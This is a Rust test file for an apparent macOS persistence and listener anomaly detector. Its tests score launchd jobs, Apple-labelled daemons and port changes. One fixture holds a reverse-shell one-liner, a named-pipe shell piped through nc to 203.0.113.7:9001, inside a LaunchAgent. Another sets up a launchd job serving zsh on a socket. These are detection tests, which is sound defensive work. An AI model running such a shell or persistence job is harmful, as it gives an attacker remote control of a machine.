//! Rules about jobs and the host: P10, P11, P12, P20, and P09 without a socket.

use super::{RUN_AT_LOAD, daemon, launchd, ssh_plist};
use crate::story::{Lsof, Mac, job};
use portolan::model::anomaly::Severity;

fn metrics(command: &str) -> Mac {
    let label = "com.example.metrics";
    Mac::new()
        .plist(
            "/Library/LaunchDaemons/com.example.metrics.plist",
            &job(label, &["/opt/metrics/metricsd", "--port", "9191"], RUN_AT_LOAD),
        )
        .loaded(Some(700), label)
        .ps(700, "root", "01:00:00", command)
        .lsof(launchd("IPv4", 0xa2, "127.0.0.1:631 (LISTEN)"))
        .lsof(Lsof::udp("mDNSResponder", 228, 0x53, "*:5353"))
}

#[test]
fn p10_notes_a_running_job_whose_port_nobody_holds() {
    let told = metrics("/opt/metrics/metricsd --port 9191").told();
    let of_job: Vec<_> = told.0.anomalies.iter().filter(|a| a.rules == ["P10"]).collect();
    assert_eq!(of_job.len(), 1, "{:?}", told.0.anomalies);
    let found: Vec<_> = of_job[0].factors.iter().map(|f| (f.name, f.points)).collect();
    assert_eq!(found, [("P10", 5), ("persistence", 10)]);
    assert_eq!(of_job[0].severity, Severity::Info, "a note, not a suspicion");
}

#[test]
fn p10_is_silent_where_the_port_is_held() {
    let mac = metrics("/opt/metrics/metricsd --port 9191")
        .lsof(Lsof::tcp("metricsd", 700, 0x70, "*:9191 (LISTEN)").root());
    assert!(mac.told().0.anomalies.iter().all(|anomaly| !anomaly.rules.contains(&"P10")));
}

#[test]
fn p10_is_silent_where_nothing_could_have_shown_it() {
    let path = "/Library/LaunchDaemons/com.example.metrics.plist";
    let plist =
        job("com.example.metrics", &["/opt/metrics/metricsd", "--port", "9191"], RUN_AT_LOAD);
    Mac::new().plist(path, &plist).loaded(Some(700), "com.example.metrics").told().is_quiet();
}

fn apple_label(plist: &str, program: &str) -> Mac {
    let label = "com.apple.geodrift";
    Mac::new().plist(plist, &job(label, &[program], RUN_AT_LOAD))
}

#[test]
fn p11_fires_for_an_apple_label_outside_apple_s_places() {
    let path = "/Library/LaunchDaemons/com.apple.geodrift.plist";
    let told = apple_label(path, "/usr/libexec/geodrift").told();
    told.scores(&["P11"], &[("P11", 30), ("persistence", 10)], 40);
    assert!(told.only_anomaly().factors[0].reason.contains("its property list"));
}

#[test]
fn p11_fires_for_a_program_that_is_not_apple_s() {
    let path = "/System/Library/LaunchDaemons/com.apple.geodrift.plist";
    let told = apple_label(path, "/usr/local/bin/geodrift").told();
    assert_eq!(told.only_anomaly().rules, ["P11"]);
    assert!(told.only_anomaly().factors[0].reason.contains("its program"));
}

#[test]
fn p11_is_silent_for_apple_s_own() {
    let path = "/System/Library/LaunchDaemons/com.apple.geodrift.plist";
    apple_label(path, "/usr/libexec/geodrift").told().is_quiet();
}

#[test]
fn p11_is_silent_for_another_label() {
    let told = Mac::new()
        .plist(
            "/Library/LaunchDaemons/org.geodrift.plist",
            &job("org.geodrift", &["/usr/libexec/geodrift"], RUN_AT_LOAD),
        )
        .told();
    told.is_quiet();
}

const SERVICES: &str = "#\nftp              21/tcp     # File Transfer\nssh            2022/tcp     # SSH Remote Login Protocol\n";

#[test]
fn p12_counts_for_the_listener_that_moved() {
    let told = Mac::new()
        .plist("/System/Library/LaunchDaemons/ssh.plist", &ssh_plist())
        .plist("/private/etc/services", SERVICES)
        .lsof(launchd("IPv6", 0xa1, "*:2022 (LISTEN)"))
        .lsof(launchd("IPv4", 0xa2, "*:2022 (LISTEN)"))
        .told();
    let factors = [
        ("P12", 50),
        ("P05", 5),
        ("scope-exposed", 10),
        ("port-registered", 5),
        ("declared-and-observed", 5),
    ];
    told.scores(&["P12", "P05"], &factors, 75);
    let reason = &told.only_anomaly().factors[0].reason;
    assert!(reason.contains("line 3 of /etc/services gives ssh/tcp the port 2022"), "{reason}");
    assert_eq!(told.binding(2022).service.as_deref(), Some("com.openssh.sshd"));
}

#[test]
fn p12_counts_for_the_host_where_nothing_listens() {
    let told = Mac::new().plist("/private/etc/services", SERVICES).told();
    told.scores(&["P12"], &[("P12", 50)], 50);
    assert_eq!(told.only_anomaly().binding, None);
}

#[test]
fn p12_is_silent_for_apple_s_numbers_and_for_names_that_no_stock_job_uses() {
    let services = SERVICES.replace("2022/tcp", "22/tcp") + "pichat  9010/tcp\n";
    Mac::new().plist("/private/etc/services", &services).told().is_quiet();
}

#[test]
fn p20_notes_a_port_that_launchd_ignores() {
    let told = Mac::new()
        .plist("/System/Library/LaunchDaemons/ssh.plist", &ssh_plist())
        .plist("/private/etc/ssh/sshd_config", "Port 2222\nPermitRootLogin no\n")
        .lsof(launchd("IPv4", 0xa2, "*:22 (LISTEN)"))
        .told();
    told.scores(&["P20"], &[("P20", 5)], 5);
}

#[test]
fn p20_is_silent_for_the_usual_port_and_where_sshd_itself_listens() {
    let mac = |port: &str| {
        let config = format!("Port {port}\nPermitRootLogin no\n");
        Mac::new().plist("/private/etc/ssh/sshd_config", &config)
    };
    mac("22").told().is_quiet();
    let told = mac("2290")
        .lsof(Lsof::tcp("sshd", 611, 0x61, "*:2290 (LISTEN)").root())
        .ps(611, "root", "01:00:00", "/usr/sbin/sshd -D -p 2290")
        .told();
    assert!(told.0.anomalies.iter().all(|anomaly| !anomaly.rules.contains(&"P20")));
}

#[test]
fn a_shell_in_arguments_alone_is_capped() {
    let pipe = "mkfifo /tmp/p; /bin/sh -i </tmp/p 2>&1 | nc 203.0.113.7 9001 >/tmp/p";
    let more = "<key>RunAtLoad</key><true/><key>StartInterval</key><integer>300</integer>";
    let told = Mac::new()
        .plist(
            "/Users/ana/Library/LaunchAgents/org.example.sync.plist",
            &job("org.example.sync", &["/bin/sh", "-c", pipe], more),
        )
        .told();
    told.scores(&["P09"], &[("P09", 60), ("persistence", 10)], 59);
    assert!(told.only_anomaly().explanation.contains("cap 59"));
    let quiet = Mac::new()
        .plist(
            "/Users/ana/Library/LaunchAgents/org.example.sync.plist",
            &job("org.example.sync", &["/bin/sh", "-c", "rsync -a /a /b"], more),
        )
        .told();
    quiet.is_quiet();
}

#[test]
fn an_inetd_job_of_a_shell_is_a_shell_on_a_socket() {
    let inetd = "<key>inetdCompatibility</key><dict><key>Wait</key><false/></dict>";
    let mac = |program: &str| {
        let plist = job("org.example.door", &[program], &(super::sockets("6023") + inetd));
        Mac::new()
            .plist("/Library/LaunchDaemons/org.example.door.plist", &plist)
            .lsof(launchd("IPv4", 0xa2, "*:6023 (LISTEN)"))
            .told()
    };
    assert_eq!(mac("/bin/zsh").only_anomaly().rules, ["P09", "P04"]);
    assert_eq!(mac("/opt/door/doord").only_anomaly().rules, ["P04"]);
}

#[test]
fn a_job_says_nothing_that_its_binding_has_said() {
    let told = daemon("com.apple.sensord", &["/opt/sensor/sensord"], "*:9790 (LISTEN)").told();
    assert_eq!(told.only_anomaly().rules, ["P11", "P02"]);
}
